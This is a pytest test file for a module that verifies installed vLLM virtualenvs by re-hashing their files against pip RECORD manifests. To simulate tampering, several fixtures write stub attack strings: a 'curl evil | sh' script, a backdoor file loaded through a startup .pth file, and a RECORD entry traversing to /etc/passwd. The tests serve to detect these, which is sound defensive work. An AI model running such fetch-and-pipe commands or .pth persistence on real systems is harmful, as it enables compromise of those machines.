"""module_utils/release_verify.py on venv-like trees: files re-hashed against their RECORD."""
import csv
import hashlib

import pytest

from ansible_collections.vllm_fleet.fleet.plugins.module_utils.release_verify import (
    VerifyError,
    record_hash,
    verify_venv,
)

SITE = "lib/python3.11/site-packages"
EXPECTED = [{"name": "vllm", "version": "0.25.1"}, {"name": "nvidia-cudnn-cu13", "version": "9.24.0.43"}]


def install(venv, name, version, files):
    """Write a dist the way pip and uv do: its files, METADATA, and a RECORD hashing each."""
    site = venv / SITE
    info = f"{name.replace('-', '_')}-{version}.dist-info"
    files = {**files, f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n\nbody\n"}
    rows = []
    for rel, text in files.items():
        path = site / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        rows.append([rel, record_hash(str(path)), str(path.stat().st_size)])
    rows.append([f"{info}/RECORD", "", ""])
    with open(site / info / "RECORD", "w", newline="") as handle:
        csv.writer(handle).writerows(rows)


@pytest.fixture
def venv(tmp_path):
    venv = tmp_path / "releases" / "r1"
    install(venv, "vllm", "0.25.1", {"vllm/__init__.py": "VERSION = '0.25.1'\n", "vllm/serve.py": "serve()\n",
                                     "../../../bin/vllm": "#!/bin/sh\nexec python -m vllm\n"})
    install(venv, "nvidia-cudnn-cu13", "9.24.0.43", {"nvidia/cudnn/lib/libcudnn.so.9": "ELF 9.24.0"})
    (venv / SITE / "_virtualenv.pth").write_text("import _virtualenv\n")  # uv venv's own
    (venv / SITE / "vllm" / "__pycache__").mkdir()
    (venv / SITE / "vllm" / "__pycache__" / "serve.cpython-311.pyc").write_text("byte code")
    return venv


def test_an_untouched_release_has_no_drift(venv):
    result = verify_venv(str(venv), EXPECTED)
    assert result["ok"], result["message"]
    assert result["files"] == {} and result["checked"] == 6
    assert result["packages"] == {"missing": [], "extra": [], "other_version": []}


def test_an_edited_file_and_a_script_are_found_changed(venv):
    (venv / SITE / "vllm" / "serve.py").write_text("serve(); steal()\n")
    (venv / "bin" / "vllm").write_text("#!/bin/sh\ncurl evil | sh\n")
    result = verify_venv(str(venv), EXPECTED)
    assert not result["ok"]
    assert result["files"] == {"vllm": {"changed": ["bin/vllm", f"{SITE}/vllm/serve.py"], "missing": [], "added": []}}
    assert f"vllm: changed bin/vllm, {SITE}/vllm/serve.py" in result["message"]


def test_a_removed_file_is_missing_and_a_new_one_is_added_to_its_dist(venv):
    (venv / SITE / "nvidia" / "cudnn" / "lib" / "libcudnn.so.9").unlink()
    (venv / SITE / "vllm" / "backdoor.py").write_text("x")
    (venv / SITE / "zz-startup.pth").write_text("import backdoor\n")  # runs at every start
    result = verify_venv(str(venv), EXPECTED)
    assert result["files"] == {
        "nvidia-cudnn-cu13": {"changed": [], "missing": [f"{SITE}/nvidia/cudnn/lib/libcudnn.so.9"], "added": []},
        "vllm": {"changed": [], "missing": [], "added": [f"{SITE}/vllm/backdoor.py"]},
        "(no dist)": {"changed": [], "missing": [], "added": [f"{SITE}/zz-startup.pth"]},
    }


def test_a_different_set_of_dists_is_named(venv):
    install(venv, "evil", "1.0", {"evil.py": "x"})
    expected = [{"name": "vllm", "version": "0.25.2"}, {"name": "torch", "version": "2.11.0"},
                {"name": "NVIDIA_cuDNN_cu13", "version": "9.24.0.43"}]
    result = verify_venv(str(venv), expected)
    assert result["packages"] == {"missing": ["torch==2.11.0"], "extra": ["evil==1.0"],
                                  "other_version": ["vllm: 0.25.2 expected, 0.25.1 installed"]}
    assert not result["ok"] and "dists missing: torch==2.11.0" in result["message"]


def test_what_cannot_be_verified_is_an_error(tmp_path, venv):
    with pytest.raises(VerifyError, match="is not a venv with one site-packages"):
        verify_venv(str(tmp_path / "nothing"), EXPECTED)
    record = venv / SITE / "vllm-0.25.1.dist-info" / "RECORD"
    record.write_text(record.read_text() + "../../../../../etc/passwd,sha256=x,1\n")
    with pytest.raises(VerifyError, match="outside the venv"):
        verify_venv(str(venv), EXPECTED)


def test_the_role_pins_uv_by_hash_and_the_wheelhouse_carries_that_uv():
    """uv checks every other hash, so its own wheel is pinned: the file pip installs it from."""
    from pathlib import Path

    from tests.fixtures.wheels.build import PYPI_CACHE, PYPI_WHEELS

    text = (Path(__file__).parents[2] / "roles/vllm_runtime/files/uv-requirements.txt").read_text()
    pins = [line.split()[0] for line in text.splitlines() if line and not line.startswith((" ", "#"))]
    hashes = [line.split("sha256:")[1].rstrip(" \\") for line in text.splitlines() if "--hash=sha256:" in line]
    assert pins == [p for p in PYPI_WHEELS if p.startswith("uv==")] == ["uv==0.13.9"]
    assert len(hashes) == 18 and all(len(h) == 64 for h in hashes)
    for wheel in PYPI_CACHE.glob("uv-0.13.9-*.whl"):  # the wheel the test nodes install
        assert hashlib.sha256(wheel.read_bytes()).hexdigest() in hashes
